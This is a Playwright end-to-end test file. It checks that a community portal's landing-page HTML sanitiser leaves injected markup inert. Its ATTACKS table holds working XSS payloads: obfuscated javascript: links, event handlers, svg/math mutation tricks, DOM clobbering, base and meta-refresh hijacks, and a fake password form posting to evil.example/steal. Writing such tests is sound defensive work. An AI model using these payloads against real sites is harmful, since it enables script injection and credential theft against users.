import { execFile } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import type { Page } from '@playwright/test';
import { startOtherApi } from './support/other-api.ts';
import { startServer, type StartedServer } from './support/start-server.ts';
import { expect, test as base } from './support/test.ts';

const ROOT = resolve(import.meta.dirname, '..');
const EVIL = 'https://evil.example';
const RUN = 'window.hasRun=true';

/** By name: what somebody puts into landing HTML, each with words that must still be readable beside it. */
const ATTACKS: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script><script src="${EVIL}/x.js"></script><scr<script>ipt>${RUN}</scr</script>ipt>`,
  'a script in a module or a nonce': `<script type="module">${RUN}</script><script nonce="">${RUN}</script>`,
  'event attributes': `<img src="/mark.svg" onload="${RUN}"><img src=x onerror="${RUN}"><p onpointerover="${RUN}" onclick="${RUN}" onanimationstart="${RUN}">hover</p><div tabindex="0" autofocus onfocus="${RUN}">focus</div><details open ontoggle="${RUN}"><summary>more</summary></details>`,
  'a style that covers the page': `<div style="position:fixed;inset:0;z-index:2147483647;background:red">cover</div><p class="dialog skip hero plate" id="content">borrowed</p>`,
  'a style sheet': `<style>*{display:none!important}body::before{content:"";position:fixed;inset:0;background:url(${EVIL}/css)}</style><link rel="stylesheet" href="${EVIL}/x.css">`,
  frames: `<iframe src="${EVIL}/frame"></iframe><iframe srcdoc="<script>parent.hasRun=true</script>"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><frameset><frame src="${EVIL}/f"></frameset>`,
  forms: `<form action="${EVIL}/steal" method="post"><label>Password <input type="password" name="password" autofocus></label><button formaction="javascript:${RUN}">Sign in</button></form><select><option>x</select><textarea>y</textarea>`,
  'javascript: links': `<a href="javascript:${RUN}">one</a><a href=" &#14;jAvAsCrIpT&colon;${RUN}">two</a><a href="java&Tab;script:${RUN}">three</a><area href="javascript:${RUN}">`,
  'data: links': `<a href="data:text/html,<script>opener.hasRun=true</script>">data</a><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  'srcset and picture': `<img srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x" alt="set"><picture><source srcset="${EVIL}/3.png"><img src="javascript:${RUN}" alt="picture"></picture><video src="${EVIL}/v" poster="${EVIL}/p" autoplay onplay="${RUN}"></video>`,
  svg: `<svg onload="${RUN}"><script>${RUN}</script><a xlink:href="javascript:${RUN}"><text>svg</text></a><animate onbegin="${RUN}" attributeName="x" dur="1s"/><foreignObject><img src="x" onerror="${RUN}"></foreignObject></svg><math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  base: `<base href="${EVIL}/"><a href="relative">relative</a>`,
  'an end of the page': `</div></section></main></body></html><h1>Another page</h1><dialog open>Your session has ended</dialog><template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'names that stand in for others': `<img name="currentScript"><img id="location" name="body"><form id="documentElement"></form><a id="trustedTypes" href="${EVIL}">x</a>`,
};
/** What no page has room for: none of it may hide the rest, nor be cut off itself. */
const TOO_MUCH = `<p>${'wide'.repeat(60)}</p><table><tr>${`<td>${'cell'.repeat(25)}</td>`.repeat(3)}</tr></table>
  <pre>${'line'.repeat(60)}</pre><img src="/uploaded-images/CommunityImages/0b0e3a52-9a6c-4b7e-8f43-6a1f0f6f2c11" width="9999" height="9999" alt="gone">`;
const PICTURE = 'https://pictures.example/car.png';
const WORDS = 'We share our road.';
const wrapped = (attack: string) => `<h2>Kept</h2><p>${WORDS}</p>${attack}`;

const slugOf = (name: string) => name.replaceAll(/\W+/g, '-');

/** A portal alone, whose API is a server of somebody else that sends what it was given. */
const test = base.extend<object, { portal: StartedServer }>({
  portal: [
    async ({}, use) => {
      const communities = Object.entries(ATTACKS).map(([name, attack]) => {
        const slug = slugOf(name);
        const record = { publicId: 'c1', slug, name: 'Attacked', active: true, childCommunities: [] };
        return [slug, { record, options: { LandingCustomHTML: wrapped(attack) } }];
      });
      const others = { 'too-much': wrapped(TOO_MUCH), 'a-picture': wrapped(`<img src="${PICTURE}" alt="A car">`) };
      const rest = Object.entries(others).map(([slug, LandingCustomHTML]) => {
        const record = { publicId: 'c2', slug, name: 'Wordy', active: true, childCommunities: [] };
        return [slug, { record, options: { LandingCustomHTML } }];
      });
      const api = await startOtherApi(Object.fromEntries([...communities, ...rest]));
      const portal = await startServer({ API_BASE_URL: api.url });
      await use(portal);
      await portal.stop();
      await api.close();
    },
    { scope: 'worker', timeout: 120_000 },
  ],
});

/** Looks at a landing page as a visitor does: its words are there, the page is still ours, and nothing has happened. */
async function expectInert(page: Page, url: string): Promise<void> {
  const strangers: string[] = [];
  const own = new URL(url).origin;
  await page.route(
    (address) => address.origin !== own,
    (route) => {
      strangers.push(route.request().url());
      return route.abort();
    },
  );
  page.on('dialog', (dialog) => void dialog.dismiss());
  page.on('framenavigated', (frame) => void (frame.url().startsWith(own) || strangers.push(frame.url())));
  await page.goto(url, { waitUntil: 'networkidle' });
  const region = page.locator('.prose--landing');
  await expect(region.getByText(WORDS)).toBeVisible();

  // Somebody points at everything, clicks on everything but the links to pages, and tabs through everything.
  await region.evaluate((root) => {
    for (const element of root.querySelectorAll<HTMLElement>('*')) {
      const isPageLink = element instanceof HTMLAnchorElement && /^(?:https?|mailto|tel):$/.test(element.protocol);
      for (const type of ['pointerover', 'animationstart', 'load', 'error', 'toggle']) element.dispatchEvent(new Event(type));
      if (!isPageLink) element.click();
      element.focus();
    }
  });
  await page.evaluate(() => new Promise((done) => setTimeout(done, 100)));

  expect(await page.evaluate(() => 'hasRun' in window), 'no script has run').toBe(false);
  expect(strangers, 'nothing is fetched from elsewhere').toEqual([]);
  expect(page.url()).toBe(url);
  expect(page.frames(), 'no frame').toHaveLength(1);
  expect(await page.evaluate(() => document.baseURI)).toBe(url);
  await expect(
    page.locator('main form, main input, main iframe, main object, main svg a, main video, main base, main meta, main style'),
  ).toHaveCount(0);
  await expect(region.locator('[style], [class], [id], [name], [srcset], [tabindex], [autofocus]')).toHaveCount(0);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Two journeys, one road.');
  await expect(page.getByRole('dialog')).toHaveCount(0);
  for (const link of await region.getByRole('link').all()) expect(await link.getAttribute('rel')).toBe('noopener noreferrer');

  // Nothing lies over the page, and its own controls still work.
  await page.getByRole('link', { name: 'Join us' }).first().click({ trial: true });
  await page.getByRole('link', { name: 'Join us' }).first().click();
  await expect(page).toHaveURL(/\/join$/);
}

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`${name} in landing HTML that another server sends is inert`, async ({ page, portal }) => {
    expect(attack).not.toBe('');
    await expectInert(page, `${portal.url}/${slugOf(name)}`);
  });
}

test('a relative link stays on the portal, whatever base was sent', async ({ page, portal }) => {
  await page.goto(`${portal.url}/${slugOf('base')}`);
  const link = page.getByRole('link', { name: 'relative' });
  expect(await link.evaluate((element) => (element instanceof HTMLAnchorElement ? element.origin : ''))).toBe(portal.url);
});

base('everything at once, stored by the operator, is inert, and named to who stored it', async ({ page, server }) => {
  const file = join(server.dataDir, 'landing.html');
  await writeFile(file, wrapped(Object.values(ATTACKS).join('\n')));
  const words = ['community', 'set', 'harbour-quarter', '--landing-html', file];
  const { stdout, stderr } = await promisify(execFile)(process.execPath, [join(ROOT, 'apps/server/src/cli.ts'), ...words], {
    cwd: ROOT,
    env: { PATH: process.env.PATH, NODE_ENV: 'production', DATA_DIR: server.dataDir, PUBLIC_URL: server.url },
  });
  expect(stdout + stderr).toContain('script');
  await expectInert(page, `${server.url}/harbour-quarter`);
});

test('landing HTML keeps what shapes its text', async ({ page, portal }) => {
  await page.goto(`${portal.url}/${slugOf('base')}`);
  const region = page.locator('.prose--landing');
  await expect(region.getByRole('heading', { level: 2, name: 'Kept' })).toBeVisible();
  await expect(region.getByText(WORDS)).toBeVisible();
});

test('words, cells and pictures of any size fit the page, and leave the rest in reach', async ({ page, portal }) => {
  await page.setViewportSize({ width: 360, height: 780 });
  await page.goto(`${portal.url}/too-much`);
  const region = page.locator('.prose--landing');
  const cutOff = await region.evaluate((element) =>
    [...element.querySelectorAll('*')].filter((each) => each.getBoundingClientRect().right > innerWidth).map((each) => each.tagName),
  );
  expect(cutOff).toEqual([]);
  expect(await region.getByRole('img').evaluate((image) => image.clientHeight)).toBeLessThan(780);
});

test('a picture of another site is shown on a landing page; pages with passwords and tokens load none', async ({ page, portal }) => {
  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
  const asked: string[] = [];
  await page.route(PICTURE, (route) => {
    asked.push(JSON.stringify(route.request().headers()));
    return route.fulfill({ body: png, contentType: 'image/png' });
  });
  await page.goto(`${portal.url}/a-picture?cd=travel.example`);
  const picture = page.getByRole('img', { name: 'A car' });
  await picture.scrollIntoViewIfNeeded();
  await expect.poll(() => picture.evaluate((image) => image instanceof HTMLImageElement && image.naturalWidth)).toBe(1);
  expect(asked.join()).not.toContain('referer');
  for (const path of ['/a-picture/login', '/login', '/a-picture/verify-email/abc']) {
    const policy = (await page.goto(portal.url + path))?.headers()['content-security-policy'];
    expect(policy).toMatch(/img-src 'self' data:(?: http:\S+)?;/);
  }
});
